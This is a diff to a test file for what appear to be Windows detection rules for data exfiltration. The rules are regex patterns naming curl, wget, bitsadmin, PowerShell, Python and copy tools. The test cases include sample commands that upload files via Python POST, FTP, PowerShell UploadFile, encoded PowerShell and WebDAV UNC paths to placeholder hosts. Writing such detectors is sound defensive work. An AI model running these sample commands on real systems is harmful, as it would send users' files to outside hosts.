@@ -36,7 +36,8 @@ CURL_IMAGE, CURL_OFN, CURL_TOKENS = "?(curl|wget|wget2)", "'^(curl|wget)\\.exe$'
 TOOLS, TOOLS_OFN = "?(bitsadmin|", "'^(bitsadmin|"
 RUNTIMES, RUNTIMES_OFN = "?(python[0-9.]*|", "${original_file_name} IMATCHES '^(python"
 PS_IMAGE, PS_OFN, PS_TOKENS = "(powershell|pwsh|", "(powershell\\.exe|", "(?s)^.*(upload|"
-COPY_IMAGE, COPY_TOKENS = "(cmd|robocopy|", "(?s)^.*(@ssl|"
+COPY_IMAGE, COPY_OFN, COPY_TOKENS = "?(cmd|robocopy|", "'^(cmd|robocopy|", "(?s)^.*(@ssl|"
+RUNTIME_TOKENS = "(?s)^.*(://|ftp)"
 UNC_PORT = "\\\\\\\\[^\\\\]+@[0-9]+\\\\"
 CURL = r"C:\Windows\System32\curl.exe"
 DASHES = "[-\u2013\u2014\u2015]"
@@ -66,6 +67,10 @@ NET = [
        ev(r"C:\x\svc.exe", "svc -c 1", ofn))
       for n, ofn in (("python[0-9.]*", "python.exe"), ("pythonw", "pythonw.exe"), ("py", "py.exe"), ("node", "node.exe"),
                      ("ruby", "ruby.exe"), ("perl", "perl.exe"))],
+    ("runtime token ://", RUNTIME_TOKENS, "://", ev(r"C:\Python\python.exe", "python -c post('https://x/', open('f'))"),
+     ev(r"C:\Python\python.exe", "python -c print(open('f').read())")),
+    ("runtime token ftp", RUNTIME_TOKENS, "ftp", ev(r"C:\Python\python.exe", "python -c ftplib.FTP('h').storbinary('STOR a', open('a'))"),
+     ev(r"C:\Python\python.exe", "python -c print(open('f').read())")),
     *[(f"powershell image {n}", PS_IMAGE, n, ev(rf"C:\PS\{n}.exe", f"{n} -c $w.UploadFile($u, 'f')"),
        ev(rf"C:\PS\{n}.exe", f"{n} -c Get-Date")) for n in ("powershell", "pwsh", "powershell_ise")],
     *[(f"powershell original file name {n}", PS_OFN, n.replace(".", "\\."), ev(r"C:\x\p.exe", "p -c $w.UploadFile($u, 'f')", n),
@@ -93,6 +98,8 @@ NET = [
     ("powershell encoded -e", PS_TOKENS, "optional:?", ev(PS, f"powershell -e {B64}"), ev(PS, f"powershell -x {B64}")),
     *[(f"copy image {n}", COPY_IMAGE, n, ev(rf"C:\Windows\System32\{n}.exe", rf"{n} C:\x \\h@SSL\in"),
        ev(rf"C:\Windows\System32\{n}.exe", rf"{n} C:\x \\h\in")) for n in ("cmd", "robocopy", "xcopy")],
+    *[(f"copy original file name {n}", COPY_OFN, n, ev(r"C:\x\svc.exe", rf"svc C:\x \\h@SSL\in", f"{n}.exe"),
+       ev(r"C:\x\svc.exe", rf"svc C:\x \\h\in", f"{n}.exe")) for n in ("cmd", "robocopy", "xcopy")],
     ("cmd token @ssl", COPY_TOKENS, "@ssl", ev(CMD, r"cmd /c copy f \\h@SSL\in"), ev(CMD, r"cmd /c copy f \\h\in")),
     ("cmd token davwwwroot", COPY_TOKENS, "davwwwroot", ev(CMD, r"cmd /c copy f \\h\DavWWWRoot\in"), ev(CMD, r"cmd /c copy f \\h\in")),
     ("cmd token \\\\host@port\\", COPY_TOKENS, UNC_PORT, ev(CMD, r"cmd /c copy f \\h@8080\in"), ev(CMD, r"cmd /c copy f \\h\in@x")),
